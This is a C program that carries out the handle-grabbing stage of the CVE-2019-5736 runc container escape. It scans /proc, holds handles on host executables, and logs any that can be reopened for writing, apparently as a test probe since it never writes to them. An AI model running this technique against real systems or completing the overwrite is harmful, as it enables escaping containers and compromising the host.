/* The CVE-2019-5736 attack, as a container with CAP_SYS_PTRACE would make it.
 *
 * Scan /proc over and over for a process whose executable is none of this container's own
 * files (busybox, this program), take O_PATH handles on its /proc/PID/exe and on its
 * /proc/PID/map_files entries of that file, and every round try to reopen each handle for
 * writing: once no process executes the binary any more, that open succeeds unless the
 * handle leads through a read-only mount. Nothing is ever written to the file.
 *
 * Each handle taken is logged to /tmp/grabbed as "PID LINK", each one opened for writing to
 * /tmp/found as "WRITABLE PID LINK". Runs until /tmp/stop exists, then creates /tmp/done. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HANDLES 4096
#define MAX_PIDS 65536

struct handle {
    int fd;
    int pid;
    int reported;
    char link[800];
};

static struct handle handles[MAX_HANDLES];
static int nhandles;
/* Per pid, the inode of the executable last seen: an exec'd process is first runr, then
 * its program. */
static ino_t seen[MAX_PIDS];
static struct stat own[2];

static void logline(const char *file, const char *what, int pid, const char *link) {
    FILE *f = fopen(file, "a");
    if (!f)
        return;
    fprintf(f, "%s%s%d %s\n", what, *what ? " " : "", pid, link);
    fclose(f);
}

static int is_own(const struct stat *st) {
    for (int i = 0; i < 2; i++)
        if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
            return 1;
    return 0;
}

static void keep(int fd, int pid, const char *link) {
    if (nhandles == MAX_HANDLES) {
        close(fd);
        return;
    }
    struct handle *h = &handles[nhandles++];
    h->fd = fd;
    h->pid = pid;
    h->reported = 0;
    snprintf(h->link, sizeof h->link, "%s", link);
    logline("/tmp/grabbed", "", pid, link);
}

/* The map_files entries of `pid` that are mappings of the file `exe`. */
static void grab_mappings(int pid, const struct stat *exe, const char *link) {
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/map_files", pid);
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char path[512], what[800];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        snprintf(what, sizeof what, "%s via %s", link, path);
        int fd = open(path, O_PATH | O_CLOEXEC);
        struct stat st;
        if (fd < 0)
            continue;
        if (fstat(fd, &st) == 0 && st.st_dev == exe->st_dev && st.st_ino == exe->st_ino)
            keep(fd, pid, what);
        else
            close(fd);
    }
    closedir(d);
}

static void scan(void) {
    DIR *d = opendir("/proc");
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid >= MAX_PIDS || seen[pid] == (ino_t)-1)
            continue;
        char path[64], link[256] = "";
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        struct stat st;
        if (fstat(fd, &st) != 0 || is_own(&st) || seen[pid] == st.st_ino) {
            close(fd);
            continue;
        }
        seen[pid] = st.st_ino;
        ssize_t n = readlink(path, link, sizeof link - 1);
        link[n > 0 ? n : 0] = 0;
        keep(fd, pid, link);
        grab_mappings(pid, &st, link);
    }
    closedir(d);
}

static void try_writing(void) {
    for (int i = 0; i < nhandles; i++) {
        struct handle *h = &handles[i];
        if (h->reported)
            continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            h->reported = 1;
            logline("/tmp/found", "WRITABLE", h->pid, h->link);
        }
    }
}

int main(void) {
    if (stat("/bin/busybox", &own[0]) != 0 || stat("/proc/self/exe", &own[1]) != 0) {
        perror("stat");
        return 1;
    }
    /* Ours are not to be scanned again and again. */
    seen[getpid()] = (ino_t)-1;
    while (access("/tmp/stop", F_OK) != 0) {
        scan();
        try_writing();
        usleep(500);
    }
    close(open("/tmp/done", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    return 0;
}
